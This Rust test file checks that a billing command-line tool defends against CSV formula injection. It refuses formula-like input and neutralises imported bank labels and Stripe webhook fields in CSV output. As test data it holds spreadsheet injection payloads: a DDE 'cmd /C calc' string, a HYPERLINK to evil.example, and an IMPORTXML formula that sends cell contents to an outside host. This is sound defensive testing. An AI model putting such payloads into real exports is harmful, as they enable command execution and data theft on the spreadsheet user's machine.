//! CSV injection (OWASP): text a spreadsheet would run as a formula is refused where a
//! person types it, and neutralised with a leading `'` in every `--format csv` cell that
//! came from outside (bank labels, webhook fields), while amounts stay numbers.

use crate::billing::coworking;
use crate::gateway::{NOW_UNIX, STRIPE_SECRET, stripe_customer, stripe_header, succeeded_body};

/// The CSV output of `args` as rows of cells.
fn csv_rows(env: &crate::env::TestEnv, args: &[&str]) -> Vec<Vec<String>> {
    let mut full = args.to_vec();
    full.extend(["--format", "csv"]);
    let out = env.ok(&full);
    csv::Reader::from_reader(out.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect()
}

fn column(env: &crate::env::TestEnv, args: &[&str], name: &str) -> Vec<String> {
    let mut full = args.to_vec();
    full.extend(["--format", "csv"]);
    let out = env.ok(&full);
    let mut reader = csv::Reader::from_reader(out.as_bytes());
    let index = reader
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == name)
        .unwrap_or_else(|| panic!("no column {name}"));
    reader
        .records()
        .map(|r| r.unwrap().get(index).unwrap().to_string())
        .collect()
}

#[test]
fn text_starting_like_a_formula_is_refused_where_a_person_types_it() {
    let env = coworking();
    let before = env.dump();
    for (args, field) in [
        (
            vec!["customer", "add", "X1", "--name=-20% remise"],
            "--name",
        ),
        (
            vec!["customer", "add", "X1", "--name", "+33 6 12 34 56 78"],
            "--name",
        ),
        (
            vec![
                "customer",
                "add",
                "X1",
                "--name",
                "X",
                "--email",
                "=HYPERLINK(\"http://x\")@x.fr",
            ],
            "--email",
        ),
        (
            vec!["customer", "add", "X1", "--name", "X", "--email=-x@x.fr"],
            "--email",
        ),
        (
            vec!["customer", "add", "X1", "--name", "X", "--address", "@home"],
            "--address",
        ),
        (vec!["customer", "edit", "C1", "--name", "=1+1"], "--name"),
        (
            vec!["item", "add", "X1", "--name=-cmd|' /C calc'!A0"],
            "--name",
        ),
        (
            vec!["config", "set", "company.address", "=1+1"],
            "company.address",
        ),
    ] {
        let err = env.fails(&args, 65);
        assert!(
            err.starts_with(&format!("error: {field}:")),
            "{args:?}: {err}"
        );
        assert!(err.contains("formula"), "{args:?}: {err}");
    }
    assert_eq!(env.dump(), before);
}

#[test]
fn a_dash_inside_text_or_an_address_is_still_fine() {
    let env = coworking();
    env.ok(&[
        "customer",
        "add",
        "X-1",
        "--name",
        "Dupont - Martin",
        "--email",
        "jean-pierre@dupont-martin.fr",
    ]);
}

#[test]
fn bank_labels_that_look_like_formulas_go_out_neutralised_in_csv_and_as_is_in_json() {
    let env = coworking();
    env.write(
        "releve.csv",
        "Date;Libellé;Débit;Crédit;Référence\n\
         02/02/2026;\"=HYPERLINK(\"\"http://evil.example\"\";\"\"clic\"\")\";;10,00;@SUM(A1)\n\
         03/02/2026;-2+3;84,12;;+cmd\n\
         04/02/2026;VIR NORMAL;;5,00;REF-1\n",
    );
    env.ok(&["bank", "import", "releve.csv"]);
    let labels = column(&env, &["bank", "list"], "label");
    assert_eq!(
        labels,
        [
            "'=HYPERLINK(\"http://evil.example\";\"clic\")",
            "'-2+3",
            "VIR NORMAL"
        ]
    );
    assert_eq!(
        column(&env, &["bank", "list"], "reference"),
        ["'@SUM(A1)", "'+cmd", "REF-1"]
    );
    // Negative amounts are numbers, not formulas: they stay as they are.
    assert_eq!(
        column(&env, &["bank", "list"], "amount"),
        ["10.00", "-84.12", "5.00"]
    );
    let json = env.json(&["bank", "list"]);
    assert_eq!(
        json[0]["label"],
        "=HYPERLINK(\"http://evil.example\";\"clic\")"
    );
    assert_eq!(json[1]["reference"], "+cmd");
}

#[test]
fn webhook_fields_that_look_like_formulas_go_out_neutralised_in_csv() {
    let env = stripe_customer(1);
    env.ok(&["tick"]);
    let body = succeeded_body("PR-0001", "INV-2026-00001", 37200)
        .replace("\"pi_1\"", "\"=IMPORTXML(CONCAT(\\\"http://x/?\\\",A1))\"");
    let header = stripe_header(STRIPE_SECRET, NOW_UNIX, &body);
    let run = env.run_stdin(
        &[
            "webhook",
            "receive",
            "--gateway",
            "stripe",
            "--signature",
            &header,
        ],
        body,
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let formula = "=IMPORTXML(CONCAT(\"http://x/?\",A1))";
    assert_eq!(
        column(&env, &["payment", "list"], "reference"),
        [format!("'{formula}")]
    );
    assert_eq!(
        column(&env, &["payment-request", "list"], "gateway_payment_id"),
        [format!("'{formula}")]
    );
    assert_eq!(
        env.json(&["payment-request", "show", "PR-0001"])["gateway_payment_id"],
        formula
    );
}

#[test]
fn a_credit_note_s_negative_amounts_stay_numbers_in_csv() {
    let env = coworking();
    env.ok(&["invoice", "create", "--customer", "C1", "--item", "DESK"]);
    env.ok(&["invoice", "credit", "INV-2026-00001", "--yes"]);
    let rows = csv_rows(&env, &["invoice", "list"]);
    let credit = rows.iter().find(|r| r[0] == "CN-2026-00001").unwrap();
    assert!(credit.contains(&"-372.00".to_string()), "{credit:?}");
    assert!(
        !credit.iter().any(|cell| cell.starts_with('\'')),
        "{credit:?}"
    );
}
